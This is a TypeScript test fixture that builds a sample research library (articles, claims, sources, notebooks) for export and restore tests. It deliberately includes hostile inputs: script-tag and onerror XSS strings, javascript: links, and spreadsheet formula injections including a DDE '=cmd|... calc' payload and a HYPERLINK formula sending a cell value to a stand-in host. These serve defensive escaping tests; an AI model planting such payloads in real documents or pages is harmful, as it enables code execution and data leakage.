import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Library } from '../../../src/core/store/Library'
import type { ArticleMeta } from '../../../src/shared/article'
import type { Claim } from '../../../src/shared/claim'
import type { RichDoc } from '../../../src/shared/richText'
import { plainToDoc } from '../../../src/shared/richText'
import { DEFAULT_WORKSPACE } from '../../../src/shared/workspace'
import { sampleArticle } from '../store/sampleArticle'

/**
 * Texts where code points and UTF-16 units differ before the quoted passages: emoji (one
 * with a skin tone), a flag (two regional indicators), CJK outside the BMP, combining marks.
 */
export const astralText =
  '🚢 Harbour report 🇳🇴 from 𠀋𠀍 district, naïve café\n\n' +
  'The union says roughly 2,400 workers walked out 👷🏽, said Ilse Marrow. ' +
  'The port authority says fewer than 1,100 stayed away. 𝒳 marks the pier.'
/** Imported text that is hostile to the next tool: markup, script, links, formulas. */
export const hostileText =
  'Leaked memo <script>alert("x")</script> about the <img src=x onerror=alert(1)> strike\n\n' +
  '[click here](javascript:alert(1)) and <a href="javascript:alert(2)">this</a>\n' +
  '=HYPERLINK("http://x/?"&A1, "win") said "the source", plainly; @SUM(1+1)\n' +
  '- not a list\n# not a heading\n'
export const plainText =
  'Freight forwarders count the cost\n\nA forwarder repeated the union figure of 2,400 workers.'

/** A note with every kind of node and mark the editor makes, and hostile text in it. */
export function richNote(articleId: string, exact: string): RichDoc {
  return {
    type: 'doc',
    content: [
      {
        type: 'heading',
        attrs: { level: 2 },
        content: [{ type: 'text', text: 'Check <b>this</b>' }]
      },
      {
        type: 'paragraph',
        content: [
          { type: 'text', text: 'Bold ', marks: [{ type: 'bold' }] },
          { type: 'text', text: '<script>alert(1)</script>', marks: [{ type: 'italic' }] },
          { type: 'hardBreak' },
          { type: 'text', text: '- after a break & <img src=x onerror=alert(1)>' },
          {
            type: 'text',
            text: ' a link',
            marks: [{ type: 'link', attrs: { href: 'https://example.org/a?b=1&c=2' } }]
          }
        ]
      },
      {
        type: 'bulletList',
        content: [
          {
            type: 'listItem',
            content: [{ type: 'paragraph', content: [{ type: 'text', text: 'one' }] }]
          },
          {
            type: 'listItem',
            content: [{ type: 'paragraph', content: [{ type: 'text', text: '=1+1' }] }]
          }
        ]
      },
      { type: 'codeBlock', content: [{ type: 'text', text: 'const x = "<script>"' }] },
      {
        type: 'passageQuote',
        attrs: {
          articleId,
          annotationId: null,
          kind: 'passage',
          start: 0,
          end: exact.length,
          exact,
          title: 'Old title'
        }
      }
    ]
  }
}

export interface FilledLibrary {
  library: Library
  dataDir: string
  astral: ArticleMeta
  hostile: ArticleMeta
  plain: ArticleMeta
  claims: Claim[]
  reopen(): Promise<Library>
  cleanup(): Promise<void>
}

function span(text: string, quote: string): { start: number; end: number } {
  const start = text.indexOf(quote)
  if (start < 0) throw new Error(`"${quote}" is not in the text`)
  return { start, end: start + quote.length }
}

/**
 * A real library in a temp folder with something of everything: three articles (one in
 * the Trash), highlights with rich notes, claims with claimants, grades, tags and an
 * attribution span, links, a deleted claim and a deleted highlight, an article note,
 * notebooks (one in the Trash), a renamed colour, and edited metadata.
 */
export async function filledLibrary(): Promise<FilledLibrary> {
  const root = await mkdtemp(join(tmpdir(), 'dossier-export-'))
  const dataDir = join(root, 'library')
  let library = await Library.open(dataDir, 'test')
  const [astral, hostile, plain] = (
    await library.addArticles([
      sampleArticle(astralText, '🚢 Harbour report'),
      sampleArticle(hostileText, '<script>alert(1)</script> =cmd|/c calc'),
      sampleArticle(plainText, 'Freight forwarders count the cost')
    ])
  ).map((outcome) => outcome.article!)
  await library.updateArticle(astral!.id, {
    source: 'Wire <i>service</i>',
    author: 'A. Reporter',
    url: 'https://example.org/harbour',
    tags: ['strike', 'figures']
  })

  const marrow = await library.createSource({ name: 'Ilse Marrow', kind: 'person' })
  await library.gradeSource({
    id: marrow.id,
    reliability: 'B',
    reason: 'reliable on union matters'
  })
  const authority = await library.createSource({ name: 'Port <authority>', kind: 'organisation' })
  await library.gradeSource({ id: authority.id, reliability: 'C', reason: 'first grade' })
  await library.gradeSource({ id: authority.id, reliability: 'D', reason: 'overstated before' })

  await library.createAnnotation({
    articleId: astral!.id,
    ...span(astralText, 'Harbour report'),
    color: 2,
    note: richNote(plain!.id, 'A forwarder repeated')
  })
  const gone = await library.createAnnotation({
    articleId: astral!.id,
    ...span(astralText, 'district'),
    color: 3
  })
  await library.deleteAnnotation(astral!.id, gone.id)
  await library.createAnnotation({
    articleId: hostile!.id,
    ...span(hostileText, '<script>alert("x")</script>'),
    color: 4,
    note: plainToDoc('=HYPERLINK("http://x") "quoted", with comma\nand a second line')
  })
  const union = await library.createClaim({
    articleId: astral!.id,
    ...span(astralText, 'roughly 2,400 workers walked out 👷🏽'),
    attributionSpan: span(astralText, 'said Ilse Marrow'),
    sourceId: marrow.id,
    credibility: 3,
    status: 'disputed',
    statement: 'About 2,400 workers struck',
    tags: ['figures', '@mention'],
    note: plainToDoc('Union figure; <b>check</b> payroll')
  })
  const port = await library.createClaim({
    articleId: astral!.id,
    ...span(astralText, 'fewer than 1,100 stayed away'),
    sourceId: authority.id,
    credibility: 2,
    attribution: 'named'
  })
  await library.updateClaim({ articleId: astral!.id, id: port.id, status: 'checking' })
  const repeat = await library.createClaim({
    articleId: plain!.id,
    ...span(plainText, 'the union figure of 2,400 workers'),
    status: 'unreviewed'
  })
  const deleted = await library.createClaim({
    articleId: plain!.id,
    ...span(plainText, 'A forwarder'),
    status: 'refuted'
  })
  await library.deleteClaim(plain!.id, deleted.id)
  const hostileClaim = await library.createClaim({
    articleId: hostile!.id,
    ...span(hostileText, '=HYPERLINK("http://x/?"&A1, "win")'),
    status: 'refuted',
    tags: ['=evil', 'a,b'],
    // A bare line break and nothing else CSV quotes for: the second line must stay in its cell.
    note: plainToDoc("Seen twice\n=cmd|' /C calc'!A0")
  })
  await library.createLink({ fromClaimId: port.id, toClaimId: union.id, relation: 'contradicts' })
  await library.createLink({ fromClaimId: repeat.id, toClaimId: union.id, relation: 'repeats' })
  await library.saveArticleNote(astral!.id, richNote(astral!.id, 'Harbour report'))
  await library.rejectSuggestion(astral!.id, 'said:0123456789abcdef')

  const notebook = await library.createNotebook('Strike write-up: 🚢 & <draft>')
  await library.saveNotebook(notebook.id, {
    type: 'doc',
    content: [
      { type: 'paragraph', content: [{ type: 'text', text: 'The two counts disagree.' }] },
      {
        type: 'passageQuote',
        attrs: {
          articleId: astral!.id,
          annotationId: union.id,
          kind: 'claim',
          ...span(astralText, 'roughly 2,400 workers walked out 👷🏽'),
          exact: 'roughly 2,400 workers walked out 👷🏽',
          title: 'Title when quoted'
        }
      },
      {
        type: 'passageQuote',
        attrs: {
          articleId: plain!.id,
          annotationId: null,
          kind: 'passage',
          ...span(plainText, 'A forwarder repeated'),
          exact: 'A forwarder repeated',
          title: 'Freight forwarders count the cost'
        }
      }
    ]
  })
  const old = await library.createNotebook('Old notes')
  await library.deleteNotebooks([old.id])
  await library.workspace.save({
    ...DEFAULT_WORKSPACE,
    colorNames: ['Key point', 'Place <b>', 'Evidence', 'Dispute', 'Person', 'Background'],
    panes: [{ id: 'p1', articleId: astral!.id, scroll: 0.5, width: 1 }],
    activePaneId: 'p1'
  })
  await library.deleteArticles([hostile!.id])
  await library.restoreArticles([hostile!.id])
  const trashedText = 'An article in the Trash\n\nWith a highlight.'
  const [trashed] = await library.addArticles([sampleArticle(trashedText, 'Trashed')])
  await library.createAnnotation({
    articleId: trashed!.article.id,
    ...span(trashedText, 'highlight'),
    color: 1
  })
  await library.deleteArticles([trashed!.article.id])

  return {
    get library() {
      return library
    },
    dataDir,
    astral: astral!,
    hostile: hostile!,
    plain: plain!,
    claims: [union, port, repeat, hostileClaim],
    async reopen() {
      await library.close()
      library = await Library.open(dataDir, 'test')
      return library
    },
    async cleanup() {
      await library.close()
      await rm(root, { recursive: true, force: true })
    }
  }
}

/** A second, empty library beside the first. */
export async function emptyLibrary(): Promise<{ library: Library; cleanup(): Promise<void> }> {
  const root = await mkdtemp(join(tmpdir(), 'dossier-restore-'))
  const library = await Library.open(join(root, 'library'), 'test')
  return {
    library,
    async cleanup() {
      await library.close()
      await rm(root, { recursive: true, force: true })
    }
  }
}
